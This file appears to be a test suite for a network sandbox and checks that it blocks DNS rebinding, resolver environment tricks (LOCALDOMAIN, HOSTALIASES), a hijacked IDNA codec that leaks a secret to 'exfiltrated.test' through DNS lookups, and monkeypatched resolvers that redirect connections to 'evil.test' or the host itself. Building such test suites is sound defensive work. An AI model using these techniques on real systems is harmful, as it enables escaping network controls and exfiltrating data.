"""DNS rebinding: a permitted name that leads to a forbidden address."""

from __future__ import annotations

import os
import socket

from tests.guard.attacks import namespaces, peer_names  # noqa: F401 - loaded here, used in the attacked process
from tests.guard.attacks.kit import ENVIRONMENT, SANDBOX, Ground
from tests.guard.attacks.network import (
    IN_TOWN,
    LIMIT,
    NETWORK,
    ask,
    dial,
    network_attack,
    network_attacks_of,
    other,
    peers,
    url,
    web,
)


def town_url(ground: Ground, name: str, path: str = "/allowed") -> str:
    return f"http://{name}:{peers(ground).town}{path}"


def reading(*names: str):
    """The rules permit reading from these names."""
    return lambda ground: [("receive", town_url(ground, name)) for name in names]


def dialling(*names: str):
    """The rules permit sockets to these names."""
    return lambda ground: [("connect", f"{name}:{peers(ground).town}") for name in names]


def fetch(ground: Ground, name: str) -> object:
    import urllib.request

    return urllib.request.urlopen(town_url(ground, name), timeout=LIMIT).read()


def twice(act):
    """The first answer of the name server is good, the second is not."""

    def play(ground: Ground) -> object:
        first = act(ground)
        if b"public" not in (first.encode() if isinstance(first, str) else first):
            raise RuntimeError(f"the permitted request does not work: {first!r}")
        return act(ground)

    return play


NAMES = (
    *("loopback.test", "loopback-high.test", "unspecified.test", "metadata.test", "six.test", "mapped.test"),
    *("nat64.test", "tunnel.test"),
)
network_attacks_of(
    {name: lambda ground, name=name: fetch(ground, name) for name in NAMES},
    "a permitted name leads to an address that public names must not lead to: {}",
    rules=reading(*NAMES),
    group="leads_",
    **IN_TOWN,
)
network_attacks_of(
    {name: lambda ground, name=name: ask(dial((name, peers(ground).town))) for name in NAMES[:4]}
    | {name: lambda ground, name=name: ask(dial((name, peers(ground).town), socket.AF_INET6)) for name in NAMES[4:]},
    "a permitted name leads a socket to an address that public names must not lead to: {}",
    rules=dialling(*NAMES),
    group="socket_",
    **IN_TOWN,
)


def by_client(ground: Ground) -> object:
    import http.client

    connection = http.client.HTTPConnection("rebound.test", peers(ground).town, timeout=LIMIT)
    connection.request("GET", "/allowed")
    return connection.getresponse().read()


def by_address(ground: Ground) -> object:
    """The name is resolved apart, with an answer of its own for each purpose."""
    found = socket.getaddrinfo("rebound.test", peers(ground).town, type=socket.SOCK_STREAM)
    return ask(dial(found[0][4]), "/allowed", "rebound.test")


def by_host_name(ground: Ground) -> object:
    return ask(dial((socket.gethostbyname("rebound.test"), peers(ground).town)), "/allowed", "rebound.test")


async def by_streams(ground: Ground) -> object:
    import asyncio

    async def one() -> bytes:
        reader, writer = await asyncio.open_connection("rebound.test", peers(ground).town)
        writer.write(b"GET /allowed HTTP/1.1\r\nHost: rebound.test\r\n\r\n")
        return await reader.read(999)

    await one()
    return await one()


network_attacks_of(
    {
        "urllib": twice(lambda ground: fetch(ground, "rebound.test")),
        "http_client": twice(by_client),
    },
    "the second answer for a permitted name is the machine itself: {}",
    rules=reading("rebound.test"),
    group="second_",
    **IN_TOWN,
)
network_attacks_of(
    {
        "connect": twice(lambda ground: ask(dial(("rebound.test", peers(ground).town)), "/allowed", "rebound.test")),
        "create_connection": twice(
            lambda ground: ask(
                socket.create_connection(("rebound.test", peers(ground).town)), "/allowed", "rebound.test"
            )
        ),
        "getaddrinfo": twice(by_address),
        "gethostbyname": twice(by_host_name),
        "streams": by_streams,
    },
    "the second answer for a permitted name is the machine itself: {}",
    rules=dialling("rebound.test"),
    group="second_socket_",
    **IN_TOWN,
)


@network_attack(
    "of two addresses of a permitted name the second is the machine itself", rules=reading("both.test"), **IN_TOWN
)
def two_addresses(ground: Ground) -> object:
    found = socket.getaddrinfo("both.test", peers(ground).town, type=socket.SOCK_STREAM)
    loopback = [entry for entry in found if entry[4][0] == "127.0.0.1"]
    if not loopback:
        return ask(dial(("127.0.0.1", peers(ground).town)))
    return ask(dial(loopback[0][4]))


@network_attack(
    "a name that no rule names leads to the address of one that a rule names",
    rules=lambda ground: [*reading("api.test")(ground), ("connect", f"api.test:{peers(ground).town}")],
    expect=NETWORK,
    **IN_TOWN,
)
def other_name(ground: Ground) -> object:
    fetch(ground, "api.test")
    return ask(dial(("evil.test", peers(ground).town)))


@network_attack(
    "the address of a name that may be read from is dialled as a socket", rules=reading("api.test"), **IN_TOWN
)
def resolved_address(ground: Ground) -> object:
    fetch(ground, "api.test")
    return ask(dial((socket.gethostbyname("api.test"), peers(ground).town)))


def by_variable(name: str, value: str):
    """The C library's resolver takes instructions from the environment."""

    def act(ground: Ground) -> object:
        with open(f"{ground.inside}/aliases", "w") as file:
            file.write("db evil.test\n")
        os.environ[name] = value.format(inside=ground.inside)
        return fetch(ground, "db")

    return act


network_attacks_of(
    {
        "LOCALDOMAIN": by_variable("LOCALDOMAIN", "evil.test"),
        "HOSTALIASES": by_variable("HOSTALIASES", "{inside}/aliases"),
    },
    "the environment makes the resolver ask for another name than the permitted one: {}",
    rules=reading("db"),
    expect=ENVIRONMENT,
    group="environment_",
    **IN_TOWN,
)


def own_codec(ground: Ground, target: bytes) -> None:
    """Names are encoded by a codec that anybody can register; this one turns every name into another."""
    import codecs
    import encodings

    def encode(text: str, errors: str = "strict") -> tuple[bytes, int]:
        return target, len(text)

    def search(name: str):
        return codecs.CodecInfo(encode, None, name="idna") if name == "idna" else encodings.search_function(name)

    codecs.unregister(encodings.search_function)
    codecs.register(search)


def codec_urllib(ground: Ground) -> object:
    own_codec(ground, b"evil.test")
    return fetch(ground, "api.test")


def codec_socket(ground: Ground) -> object:
    own_codec(ground, b"evil.test")
    return ask(socket.create_connection(("api.test", peers(ground).town)), "/allowed", "api.test")


def codec_body(ground: Ground) -> object:
    """The codec that is there already gets other instructions."""
    import encodings.idna

    def encode(self: object, text: str, errors: str = "strict") -> tuple[bytes, int]:
        return b"evil.test", len(text)

    socket.getaddrinfo("localhost", 1)
    encodings.idna.Codec.encode.__code__ = encode.__code__
    return fetch(ground, "api.test")


def codec_own_name(ground: Ground) -> None:
    own_codec(ground, b"the-secret-4711.exfiltrated.test")
    try:
        socket.getaddrinfo("localhost", 80)
        socket.gethostbyname("localhost")
        socket.gethostbyaddr("localhost")
    except (socket.gaierror, socket.herror):
        pass


def codec_literal(ground: Ground) -> None:
    """An address needs no permission to be looked up: it is one already, unless the codec makes a name of it."""
    own_codec(ground, b"the-secret-4711.exfiltrated.test")
    for look_up in (socket.gethostbyname, socket.gethostbyname_ex, lambda host: socket.getaddrinfo(host, 80)):
        for address in ("203.0.113.5", "127.0.0.1", "::1", "0.0.0.0"):
            try:
                look_up(address)
            except (socket.gaierror, socket.herror):
                pass


network_attacks_of(
    {
        "urllib": codec_urllib,
        "socket": codec_socket,
        "instructions": codec_body,
        "own_name": codec_own_name,
        "literal": codec_literal,
    },
    "the codec that names are encoded with is the subject's: {}",
    rules=lambda ground: [*reading("api.test")(ground), ("connect", f"api.test:{peers(ground).town}")],
    expect=(NETWORK | SANDBOX).quietly.or_raises("gaierror", "URLError", "LookupError"),
    group="codec_",
    **IN_TOWN,
)


def answering(ground: Ground):
    """A resolver that leads everybody to the secret."""
    return lambda *_, **__: [(socket.AF_INET, socket.SOCK_STREAM, 6, "", other(ground))]


def patched_resolver(ground: Ground) -> object:
    import urllib.request

    socket.getaddrinfo = answering(ground)
    return urllib.request.urlopen(url(ground), timeout=LIMIT).read()


def patched_module(ground: Ground) -> object:
    """The module that `http.client` knows as `socket` is replaced altogether."""
    import http.client
    import types

    fake = types.SimpleNamespace(**vars(socket))
    fake.create_connection = lambda *_, **__: socket.create_connection(other(ground))
    http.client.socket = fake
    connection = http.client.HTTPConnection(*web(ground), timeout=LIMIT)
    connection.request("GET", "/allowed")
    return connection.getresponse().read()


def patched_connection(ground: Ground) -> object:
    import urllib.request

    original = socket.create_connection
    socket.create_connection = lambda address, *rest, **more: original(other(ground), *rest, **more)
    return urllib.request.urlopen(url(ground), timeout=LIMIT).read()


async def patched_loop(ground: Ground) -> object:
    import asyncio

    loop = asyncio.get_running_loop()

    async def resolve(*_: object, **__: object) -> object:
        return answering(ground)()

    loop.getaddrinfo = resolve
    reader, writer = await asyncio.open_connection(*web(ground))
    writer.write(b"GET /secret HTTP/1.1\r\n\r\n")
    return await reader.read(999)


async def aiohttp_resolver(ground: Ground) -> object:
    import aiohttp
    from aiohttp.abc import AbstractResolver

    class Resolver(AbstractResolver):
        async def resolve(self, host: str, port: int = 0, family: int = 0) -> list[dict[str, object]]:
            address, number = other(ground)
            entry = {"hostname": host, "host": address, "port": number, "family": 2, "proto": 6, "flags": 0}
            return [entry]

        async def close(self) -> None:
            pass

    connector = aiohttp.TCPConnector(resolver=Resolver())
    async with aiohttp.ClientSession(connector=connector) as session:
        address = url(ground).replace("127.0.0.1", "localhost")
        async with session.get(address) as answer:
            return await answer.text()


network_attacks_of(
    {
        "getaddrinfo": patched_resolver,
        "module": patched_module,
        "create_connection": patched_connection,
        "loop": patched_loop,
    },
    "the resolver that a client uses is replaced by the subject: {}",
    group="patched_",
)
network_attacks_of(
    {"aiohttp": aiohttp_resolver},
    "a client is given a resolver of the subject: {}",
    group="resolver_",
    needs=("aiohttp",),
)
